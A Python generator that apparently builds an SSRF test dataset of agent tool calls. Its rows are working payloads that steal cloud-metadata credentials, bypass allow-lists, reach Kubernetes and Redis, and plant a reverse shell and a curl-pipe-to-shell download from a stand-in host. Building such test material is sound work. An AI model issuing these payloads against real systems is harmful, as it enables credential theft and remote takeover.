from urllib.parse import quote

from c import ip_hex, ip_int, uuid4, row

F = "ssrf"
ROWS = []


def A(t, s, tool, p):
    ROWS.append(row(F, t, s, tool, p))


def resp(*args):
    out = "*%d\r\n" % len(args)
    for a in args:
        out += "$%d\r\n%s\r\n" % (len(a.encode()), a)
    return out


_cron = "\n\n*/1 * * * * bash -c 'sh -i >& /dev/tcp/203.0.113.70/9001 0>&1'\n\n"
GOPHER_REDIS = "gopher://127.0.0.1:6379/_" + quote(
    resp("set", "k1", _cron) + resp("config", "set", "dir", "/var/spool/cron/")
    + resp("config", "set", "dbfilename", "root") + resp("save"), safe="")

A("AWS IMDS as a single decimal integer host",
  "PayloadsAllTheThings (SSRF: bypass using decimal IP)", "http.fetch",
  {"url": "http://%d/latest/meta-data/iam/security-credentials/" % ip_int("169.254.169.254"), "timeout": 5})

A("AWS IMDS user-data with dotted-hex octets",
  "PayloadsAllTheThings (SSRF: hex encoding)", "http.fetch",
  {"url": "http://0xa9.0xfe.0xa9.0xfe/latest/user-data"})

A("AWS IMDS with dotted-octal octets and a guessed role name",
  "PayloadsAllTheThings (SSRF: octal encoding)", "link_preview.fetch",
  {"url": "http://0251.0376.0251.0376/latest/meta-data/iam/security-credentials/ec2-app-role"})

A("IMDSv2 token PUT with two-part IPv4 form 169.254.43518",
  "AWS IMDSv2 docs / SSRF IP shorthand", "http.fetch",
  {"url": "http://169.254.43518/latest/api/token", "method": "PUT", "headers": {"X-aws-ec2-metadata-token-ttl-seconds": "21600"}})

A("IPv4-mapped IPv6 literal in hex groups for 169.254.169.254",
  "PayloadsAllTheThings (SSRF: IPv6 notation)", "webhook.register",
  {"event": "invoice.paid", "url": "http://[::ffff:a9fe:a9fe]/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance"})

A("AWS Nitro IMDS IPv6 endpoint fd00:ec2::254",
  "AWS EC2 docs (IMDS IPv6 endpoint)", "http.fetch",
  {"url": "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/"})

A("GCP metadata token with Metadata-Flavor header via an integration that allows custom headers",
  "Google Cloud docs (metadata server) / HackTricks (GCP SSRF)", "integrations.test_connection",
  {"type": "generic_http", "url": "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
   "headers": {"Metadata-Flavor": "Google"}})

A("GCP short hostname 'metadata' project ssh-keys attribute",
  "HackTricks (Cloud SSRF: GCP)", "http.fetch",
  {"url": "http://metadata/computeMetadata/v1/project/attributes/ssh-keys?alt=text", "headers": {"Metadata-Flavor": "Google"}})

A("Azure IMDS managed-identity token for Key Vault audience",
  "Microsoft docs (Azure IMDS managed identity) / HackTricks", "http.fetch",
  {"url": "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fvault.azure.net", "headers": {"Metadata": "true"}})

A("Alibaba Cloud metadata RAM credentials endpoint",
  "PayloadsAllTheThings (SSRF: Alibaba metadata)", "image.fetch",
  {"url": "http://100.100.100.200/latest/meta-data/ram/security-credentials/", "purpose": "avatar"})

A("Oracle Cloud IMDSv2 with Authorization: Bearer Oracle",
  "Oracle Cloud docs (instance metadata v2)", "http.fetch",
  {"url": "http://169.254.169.254/opc/v2/instance/", "headers": {"Authorization": "Bearer Oracle"}})

A("ECS task-role credentials via 169.254.170.2 relative URI",
  "AWS ECS docs (task IAM role credentials)", "http.fetch",
  {"url": "http://169.254.170.2/v2/credentials/" + uuid4("ecs-cred")})

A("in-cluster Kubernetes API listing kube-system secrets",
  "HackTricks (Kubernetes SSRF)", "http.fetch",
  {"url": "https://kubernetes.default.svc.cluster.local/api/v1/namespaces/kube-system/secrets", "verify_tls": False})

A("kubelet /run endpoint executes a command in kube-proxy container",
  "HackTricks (Kubelet API: /run)", "http.fetch",
  {"url": "https://10.0.12.4:10250/run/kube-system/kube-proxy-8hx2q/kube-proxy", "method": "POST",
   "headers": {"Content-Type": "application/x-www-form-urlencoded"}, "body": "cmd=cat /var/lib/kube-proxy/kubeconfig.conf", "verify_tls": False})

A("Consul agent service registration with a script check (RCE if enable_script_checks)",
  "HackTricks (Consul pentesting) / Consul API docs", "webhook.register",
  {"event": "deploy.finished", "url": "http://127.0.0.1:8500/v1/agent/service/register", "method": "PUT",
   "body": "{\"Name\":\"status\",\"Check\":{\"Args\":[\"sh\",\"-c\",\"curl -s 203.0.113.70/c|sh\"],\"Interval\":\"30s\"}}"})

A("gopher:// RESP smuggling to Redis: write root crontab via CONFIG SET dir/dbfilename",
  "PayloadsAllTheThings (SSRF: gopher Redis) / Gopherus", "http.fetch",
  {"url": GOPHER_REDIS})

A("dict:// to Redis issuing CONFIG SET dir",
  "PayloadsAllTheThings (SSRF: dict scheme)", "link_preview.fetch",
  {"url": "dict://127.0.0.1:6379/CONFIG%20SET%20dir%20/var/spool/cron/"})

A("file:// URL as avatar source reading process environment",
  "PayloadsAllTheThings (SSRF: file scheme)", "image.fetch",
  {"url": "file:///proc/self/environ", "purpose": "avatar", "max_bytes": 1048576})

A("DNS rebinding hostname alternating public IP and IMDS (rbndr.us format)",
  "taviso/rbndr / NCC Singularity (DNS rebinding)", "http.fetch",
  {"url": "http://%s.%s.rbndr.us/latest/meta-data/iam/security-credentials/" % (ip_hex("52.84.12.7"), ip_hex("169.254.169.254"))})

A("wildcard DNS nip.io name resolving to an internal Elasticsearch node",
  "nip.io docs / SSRF allow-list bypass write-ups", "http.fetch",
  {"url": "http://search-10-0-3-17.nip.io:9200/_cat/indices?v"})

A("open redirect on an allow-listed public host with 307 to IMDS",
  "PayloadsAllTheThings (SSRF: redirect bypass)", "docs.import_url",
  {"url": "https://httpbin.org/redirect-to?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F&status_code=307", "follow_redirects": True})

A("userinfo confusion: allow-listed name before @ then IMDS host",
  "Orange Tsai (A New Era of SSRF)", "http.fetch",
  {"url": "https://docs.acme-corp.io@169.254.169.254/latest/meta-data/"})

A("backslash-@ parser differential (WHATWG vs RFC 3986) to localhost admin",
  "Orange Tsai (A New Era of SSRF: URL parser inconsistency)", "link_preview.fetch",
  {"url": "http://docs.acme-corp.io\\@127.0.0.1:8080/admin/users"})

A("fragment '#@allowed' confusion to Docker Engine API on the bridge gateway",
  "PayloadsAllTheThings (SSRF: URL parsing)", "http.fetch",
  {"url": "http://172.17.0.1:2375/containers/json?all=1#@api.github.com/"})

A("zero and short-form loopback (0, 127.1) to Consul KV and MinIO admin",
  "PayloadsAllTheThings (SSRF: localhost bypass)", "http.batch_fetch",
  {"urls": ["http://0:8500/v1/kv/?recurse", "http://127.1:9000/minio/admin/v3/info"]})

A("enclosed alphanumerics host mapped to digits by UTS#46 then parsed as IPv4",
  "PayloadsAllTheThings (SSRF: enclosed alphanumerics)", "http.fetch",
  {"url": "http://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463/latest/meta-data/"})

A("server-side SVG rasteriser follows <image xlink:href> to IMDS",
  "PayloadsAllTheThings (SSRF: SVG) / ImageTragick-era write-ups", "image.render",
  {"format": "png", "svg": "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"800\" height=\"400\"><rect width=\"800\" height=\"400\" fill=\"#fff\"/><image xlink:href=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=\"800\" height=\"400\"/></svg>"})

A("XXE external entity fetching IMDS in an XML invoice import",
  "OWASP (XXE Prevention) / PayloadsAllTheThings (XXE)", "xml.import",
  {"kind": "ubl_invoice", "xml": "<?xml version=\"1.0\"?>\n<!DOCTYPE Invoice [<!ENTITY meta SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]>\n<Invoice><ID>INV-5521</ID><Note>&meta;</Note></Invoice>"})

A("HTML-to-PDF renderer: iframe to IMDS and sync XHR to file:///etc/passwd",
  "HackTricks (Server-side XSS in dynamic PDF)", "pdf.render",
  {"html": "<h1>Quote Q-2291</h1><iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=\"800\" height=\"300\"></iframe><script>var x=new XMLHttpRequest();x.open('GET','file:///etc/passwd',false);x.send();document.write('<pre>'+x.responseText+'</pre>')</script>", "paper": "A4"})

A("URL containing TAB that WHATWG parsers strip before resolving the IMDS host",
  "WHATWG URL spec (ASCII tab/newline removal)", "http.fetch",
  {"url": "http://169.254.\t169.254/latest/meta-data/iam/security-credentials/"})
